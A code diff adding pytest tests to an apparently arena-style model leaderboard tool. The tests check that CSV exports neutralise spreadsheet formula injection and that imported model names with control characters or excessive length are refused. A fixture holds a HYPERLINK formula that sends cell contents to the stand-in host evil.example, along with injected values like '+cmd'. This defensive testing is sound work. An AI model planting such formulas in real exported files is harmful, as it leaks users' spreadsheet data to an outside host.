@@ -118,3 +118,88 @@ def test_a_model_against_itself_in_chatbot_arena_rows_and_for_the_leaderboard(tm
     assert done.returncode == 1
     assert "row 2: model_a and model_b are the same model" in done.stderr
     assert "Traceback" not in done.stderr
+
+
+# --- formula model names in every CSV we write --------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _formula_votes(tmp_path):
+    path = tmp_path / "votes.csv"
+    pd.DataFrame({"model_a": [FORMULA, "@SUM(1)", "plain"] * 4,
+                  "model_b": ["plain", "+cmd", FORMULA] * 4,
+                  "winner": ["model_a", "tie", "model_b"] * 4}).to_csv(path, index=False)
+    return path
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+
+
+def test_the_cli_leaderboard_csv_neutralises_formula_names(tmp_path):
+    path = _formula_votes(tmp_path)
+    from_file = arena("leaderboard", "--from", str(path), "--format", "csv", "--rounds", "5")
+    assert from_file.returncode == 0, from_file.stderr
+    db = tmp_path / "arena.db"
+    assert arena("import", str(path), "--db", str(db)).returncode == 0
+    from_db = arena("leaderboard", "--db", str(db), "--format", "csv", "--rounds", "5")
+    for out in (from_file.stdout, from_db.stdout):
+        cells = _cells(out)
+        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+        # Ratings, even negative ones, stay numbers.
+        assert pd.read_csv(pd.io.common.StringIO(out))["rating"].dtype == float
+
+
+def test_the_leaderboard_page_download_neutralises_formula_names(tmp_path):
+    from functools import partial
+
+    from arena import ratings
+    from arena.i18n import translate
+    from arena.ui.leaderboard_view import download_csv
+
+    votes = pd.read_csv(_formula_votes(tmp_path))
+    board = ratings.leaderboard(ratings.count_table(votes), rounds=5)
+    for language in ("en", "zh"):
+        t = partial(translate, language)
+        text = download_csv(board, t).decode("utf-8-sig")
+        cells = _cells(text)
+        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+        shown = pd.read_csv(pd.io.common.StringIO(text))
+        low, high = t("board.col.ci_low"), t("board.col.ci_high")
+        assert (shown[low] <= shown[t("board.col.rating")]).all()
+        assert (shown[t("board.col.rating")] <= shown[high]).all()
+
+
+@pytest.mark.parametrize("name, message", [
+    ("bell\x07model", r"row 2: model_a has a control character \(U\+0007\)"),
+    ("new\nline", r"row 2: model_a has a control character \(U\+000A\)"),
+    ("del\x7f", r"row 2: model_a has a control character \(U\+007F\)"),
+    ("m" * 201, r"row 2: model_a is 201 characters long \(ARENA_IMPORT_MAX_NAME_CHARS=200\)"),
+])
+@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
+def test_model_names_with_control_characters_or_too_long_are_refused(tmp_path, name, message,
+                                                                      form):
+    path = tmp_path / f"votes.{form}"
+    frame = pd.DataFrame({"model_a": ["x", name, "y"], "model_b": ["y", "y", "x"],
+                          "winner": ["model_a", "tie", "model_b"]})
+    {"csv": lambda: frame.to_csv(path, index=False),
+     "jsonl": lambda: frame.to_json(path, orient="records", lines=True),
+     "parquet": lambda: frame.to_parquet(path)}[form]()
+    refused(Store(tmp_path / "arena.db"), path, message)
+
+
+def test_model_names_in_our_own_format_are_checked_too(tmp_path, source):
+    def bad(record, row):
+        if row == 2:
+            record["side_b"]["model"] = "tab\there"
+
+    path = tmp_path / "votes.jsonl"
+    nested_export(source, path, bad)
+    refused(Store(tmp_path / "arena.db"), path,
+            r"row 2: ollama_model_b has a control character \(U\+0009\)")
